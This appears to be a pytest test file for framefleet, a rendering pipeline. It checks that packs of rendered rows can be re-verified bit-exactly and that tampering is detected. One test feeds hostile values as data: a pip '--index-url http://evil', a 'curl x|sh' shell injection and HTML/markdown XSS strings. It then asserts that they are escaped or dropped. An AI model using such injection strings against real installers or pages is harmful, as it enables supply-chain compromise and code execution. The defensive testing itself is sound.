"""Packed rows are rendered again by somebody who has the pack and the weights, and nothing else."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from itertools import zip_longest
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from PIL import Image

import framefleet
from framefleet.pipeline.errors import InputError, JobError
from tests.commands import command
from tests.driven import render_driven
from tests.here import run_script
from tests.jobs import job_values, prompt_rows, records_of, write_table
from tests.outputs import change_records
from tests.tiny import tiny


def test_a_stranger_renders_packed_rows_again_with_the_weights_alone(tmp_path: Path) -> None:
    own, theirs = tmp_path / "own", tmp_path / "theirs"
    own.mkdir()
    shutil.copytree(tiny("wan"), own / "model")
    values = job_values(write_table(own / "t.parquet", prompt_rows(5)), own / "out")
    render_driven(values | {"model": str(own / "model")})
    shutil.move(own / "model", own / "moved")
    packed = command("pack", own / "out", theirs / "pack", "--rows", "3", "--model", own / "moved")
    assert packed.exit_code == 0 and "3 rows" in packed.stdout, packed.output
    shutil.move(own / "moved", theirs / "weights")
    shutil.rmtree(own)
    for file in (theirs / "pack").rglob("*"):  # nothing says where its author keeps files
        content = file.read_bytes() if file.is_file() else b""
        texts = str(pq.read_table(file).to_pylist()).encode() if file.suffix == ".parquet" else b""
        assert str(own).encode() not in content + texts, file

    pack, weights = theirs / "pack", theirs / "weights"
    verified = command("verify", pack, "--sample", "3", "--model", weights)
    assert verified.exit_code == 0 and verified.stdout.count("bit-exact") >= 3, verified.output
    assert command("verify", pack, "--files").exit_code == 0
    subprocess.run(["sha256sum", "--check", "--quiet", pack / "model.sha256"], cwd=weights, check=True)
    records = records_of(pack)
    assert len(records) == 3 and {record["tag"] for record in records} < {f"row {i}" for i in range(5)}
    page = (pack / "README.md").read_text()
    assert all(record["row_id"] in page and record["path"] in page for record in records)
    assert f"framefleet=={framefleet.__version__}\n" in (pack / "requirements.txt").read_text()
    assert "torch==" in (pack / "requirements.txt").read_text()
    script = (pack / "scripts" / f"{records[0]['row_id']}.py").read_text()
    script = script.replace("MODEL = 'moved'", f"MODEL = {str(weights)!r}")
    ended = subprocess.run([sys.executable, "-c", script], stdout=subprocess.PIPE, text=True, check=True)
    assert ended.stdout.startswith("the same frames: ")

    other = theirs / "other"
    shutil.copytree(tiny("wan_ti2v"), other)
    assert command("verify", pack, "--model", other).exit_code == 2


def test_what_rows_take_is_packed_too(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    pictures = tmp_path / "pictures"
    pictures.mkdir()
    for number in range(2):
        pixels = np.random.default_rng(number).integers(0, 256, (24, 40, 3), dtype=np.uint8)
        Image.fromarray(pixels).save(pictures / f"{number}.png")
    rows = [{"prompt": "a ball", "image": f"{number}.png", "seed": number} for number in range(2)]
    values = job_values(write_table(pictures / "t.parquet", rows), tmp_path / "out", model="wan_i2v")
    values["defaults"].pop("max_sequence_length", None)
    render_driven(values | {"media": {"format": "mkv"}})
    row_ids = [record["row_id"] for record in records_of(tmp_path / "out")]
    monkeypatch.chdir(tmp_path)
    packed = framefleet.pack("out", row_ids=[row_ids[0][:6], f"{row_ids[1]}.mkv"])
    assert (packed.row_ids, packed.folder) == (tuple(row_ids), "out-pack")
    assert not packed.without_script
    shutil.copyfile(pictures / "1.png", pictures / "0.png")
    with pytest.raises(InputError, match=r"0\.png', but the file has changed"):
        framefleet.pack(tmp_path / "out", tmp_path / "other", row_ids=row_ids)
    shutil.rmtree(pictures)
    shutil.rmtree(tmp_path / "out")
    given = framefleet.Given(model=str(tiny("wan_i2v")))
    verified = framefleet.verify("out-pack", row_ids=row_ids, given=given)
    assert verified.is_well and len(verified.rows) == 2
    monkeypatch.chdir(tmp_path / "out-pack")  # where their pictures are
    script = Path("scripts", f"{row_ids[1]}.py").read_text()
    assert str(tmp_path) not in script
    assert run_script(script.replace("MODEL = 'wan_i2v'", f"MODEL = {given.model!r}")).startswith("the same ")
    picture = next(path for path in Path("inputs").iterdir() if path.name in script)
    picture.write_bytes(picture.read_bytes() + b"0")
    with pytest.raises(SystemExit, match="is not the picture of the row"):
        run_script(script)


def test_rows_are_chosen_as_export_chooses_them(rendered: Path, tmp_path: Path) -> None:
    records = sorted(records_of(rendered), key=lambda record: record["seed"])
    row_ids = [record["row_id"] for record in records]
    picks = tmp_path / "picks.jsonl"
    stars = zip([*row_ids, "0" * 32], (5, 0, 1, 1, 1), strict=True)
    picks.write_text("".join(f'{{"row_id": "{row_id}", "stars": {number}}}\n' for row_id, number in stars))
    packed = command("pack", rendered, tmp_path / "picked", "--picks", picks)
    assert packed.exit_code == 0 and "1 pick without a record" in packed.stderr, packed.output
    assert {one["row_id"] for one in records_of(tmp_path / "picked")} == {*row_ids} - {row_ids[1]}
    both = framefleet.pack(rendered, tmp_path / "both", where="seed > 0", picks=row_ids[:3])
    assert {*both.row_ids} == {*row_ids[1:3]}
    assert framefleet.pack(rendered, tmp_path / "one", rows=1, where="seed = 3").row_ids == (row_ids[3],)
    none = command("pack", rendered, tmp_path / "none", "--where", "seed > 9")
    assert none.exit_code == 2 and "no rows are chosen" in none.stderr, none.output
    twice = command("pack", rendered, tmp_path / "none", "--row", row_ids[0], "--where", "seed > 0")
    assert twice.exit_code == 2 and "--row names the rows, but --where chooses some" in twice.stderr
    assert not (tmp_path / "none").exists()


def test_each_file_of_a_pack_is_under_its_digest(rendered: Path, tmp_path: Path) -> None:
    packed = framefleet.pack(rendered, tmp_path / "pack", rows=2)
    shown = command("verify", packed.folder, "--files")
    assert shown.exit_code == 0 and f"digest of the pack: {packed.digest}; " in shown.stderr, shown.output
    files = [path for path in Path(packed.folder).rglob("*") if path.is_file() and path.name != "pack.sha256"]
    names = {path.name for path in files}
    assert {"README.md", "requirements.txt", "model.sha256", "job.json"} < names
    for file in files:
        content = file.read_bytes()
        file.write_bytes(content.replace(content[-9:], b"altered!\n"))
        found = framefleet.verify(packed.folder, files=True)
        path = file.relative_to(packed.folder).as_posix()
        assert path in {one.path for one in found.damages if not one.is_leftover}, path
        with pytest.raises(JobError, match="is not as it was packed"):
            framefleet.verify(packed.folder)
        file.write_bytes(content)
    (part,) = (Path(packed.folder) / "records").iterdir()
    shutil.copyfile(part, added := part.with_name("part-z.parquet"))  # its rows would be the newer ones
    found = framefleet.verify(packed.folder, files=True)
    assert "records/part-z.parquet" in {one.path for one in found.damages if one.kind == "part"}
    with pytest.raises(JobError, match=r"part-z\.parquet is not as it was packed: pack\.sha256 does not"):
        framefleet.verify(packed.folder)
    added.unlink()
    (listed := Path(packed.folder, "pack.sha256")).write_bytes(listed.read_bytes() + b"\nx  ../job.json\n")
    assert {one.path for one in framefleet.verify(packed.folder, files=True).damages} == {"pack.sha256"}


def test_times_of_the_table_are_packed_with_their_nanoseconds(out: Path, tmp_path: Path) -> None:
    (part,) = (out / "records").iterdir()
    table = pq.read_table(part)
    numbers = pa.array(range(12_345_678_901, 12_345_678_901 + len(table)))
    times = {kind: numbers.cast(kind) for kind in (pa.time64("ns"), pa.timestamp("ns"), pa.duration("ns"))}
    for kind, cells in times.items():
        table = table.add_column(0, str(kind), cells)
    part.unlink()
    pq.write_table(table, part.with_name("part-x.parquet"))
    packed = framefleet.pack(out, tmp_path / "pack")
    columns = ["row_id", *map(str, times)]
    stored = pq.read_table(tmp_path / "pack" / "records").select(columns).cast(table.select(columns).schema)
    assert stored.sort_by("row_id").equals(table.select(columns).sort_by("row_id"))
    assert set(packed.row_ids) == set(table["row_id"].to_pylist())


def test_what_cannot_be_packed_is_refused(out: Path, tmp_path: Path) -> None:
    pack = tmp_path / "pack"
    with pytest.raises(JobError, match="has no record of row " + "0" * 32):
        framefleet.pack(out, pack, row_ids=["0" * 32])
    with pytest.raises(JobError, match="is not an empty folder"):
        framefleet.pack(out, out)
    clip = next((out / "clips").glob("*/*"))
    clip.write_bytes(clip.read_bytes()[::-1])
    with pytest.raises(JobError, match="differs from its record: "):
        framefleet.pack(out, pack)
    assert not pack.exists()


def changed_environments(out: Path, *changed: dict[str, Any], job: str | None = None, **columns: str) -> None:
    """Have the first records say something else of where they were rendered; and all of them of columns."""

    def change(table: pa.Table) -> dict[str, list[str]]:
        cells = [json.loads(cell) for cell in table["environment"].to_pylist()]
        texts = [json.dumps(cell | more) for cell, more in zip_longest(cells, changed, fillvalue={})]
        return {"environment": texts, **{name: [text] * len(table) for name, text in columns.items()}}

    change_records(out, change)
    if job is not None:
        (out / "job.json").write_text(job)


def test_what_a_record_says_of_versions_is_no_option_of_pip_and_no_command_and_html_is_text(
    out: Path, tmp_path: Path
) -> None:
    job = json.loads((out / "job.json").read_text())
    job["versions"] |= {"evil-package": "6.6"}
    html = "<img src=x onerror=alert(1)> [a](javascript:b) ![c](http://d) `e` | f"
    hostile = {"framefleet": "0.1.0\n--index-url http://evil", "python": "3; curl x|sh #", "torch": 5}
    hostile |= {"evil-package": "6.6", "gpu": html, "device": "cuda", "cpu": html}
    changed_environments(out, *[hostile] * 4, job=json.dumps(job), model=html)
    framefleet.pack(out, tmp_path / "pack")
    pinned = "".join(file.read_text() for file in (tmp_path / "pack").glob("requirements*.txt"))
    assert "diffusers==" in pinned
    assert not [word for word in ("evil", "framefleet", "torch=") if word in pinned]
    page = (tmp_path / "pack" / "README.md").read_text()
    assert "python3 -m venv" in page and "curl" not in page
    assert "<img" not in page and "&lt;img" in page
    assert not [word for word in ("[a](", "![c]", " `e`", " | f") if word in page]


def test_rows_of_several_versions_are_each_checked_with_their_own(out: Path, tmp_path: Path) -> None:
    changed_environments(
        out, {"torch": "2.10.0", "python": "3.12.1"}, {"torch": "2.10.0+cpu", "python": "3.12.1"}
    )
    framefleet.pack(out, tmp_path / "pack")
    files = {file.name: file.read_text() for file in (tmp_path / "pack").glob("requirements*.txt")}
    assert sorted(files) == ["requirements-2.txt", "requirements.txt"]
    assert sorted("torch==2.10.0\n" in text for text in files.values()) == [False, True]
    (own,) = [name for name, text in files.items() if "torch==2.10.0\n" in text]
    page = (tmp_path / "pack" / "README.md").read_text()
    assert "python3.12 -m venv" in page and page.count("framefleet verify . --row ") == 2
    rows = [row["row_id"] for row in records_of(tmp_path / "pack") if "2.10.0" in row["environment"]]
    assert len(rows) == 2
    for row_id in rows:
        (line,) = [line for line in page.splitlines() if line.startswith(f"| {row_id} ")]
        assert f"[{own}]({own})" in line and "Python 3.12.1" in line


@pytest.mark.parametrize(
    ("place", "last", "call"),
    [
        ("pack.pack", "replay_script", "framefleet.pack"),
        ("pack.pack", "write_list", "framefleet.pack"),
        ("prove.prove", "certificate_page", "functools.partial(framefleet.prove, coin='1')"),
    ],
)
def test_what_was_killed_while_it_was_written_is_written_again(
    place: str, last: str, call: str, out: Path, tmp_path: Path
) -> None:
    made = tmp_path / "made"
    script = f"import functools, os, sys, framefleet\nfrom framefleet.plugins.{place} import {last}\n"
    script += f"sys.modules['framefleet.plugins.{place}'].{last} = lambda *_: os._exit(9)\n"
    assert subprocess.run([sys.executable, "-c", f"{script}{call}(*sys.argv[1:])", out, made]).returncode == 9
    assert (made / "clips").exists()
    again = framefleet.pack(out, made) if "pack" in place else framefleet.prove(out, made, coin="1")
    assert len(again.row_ids) == 4
    assert not [file for file in made.iterdir() if file.name.startswith(".")]
    with pytest.raises(JobError, match="is not an empty folder"):
        framefleet.pack(out, made)
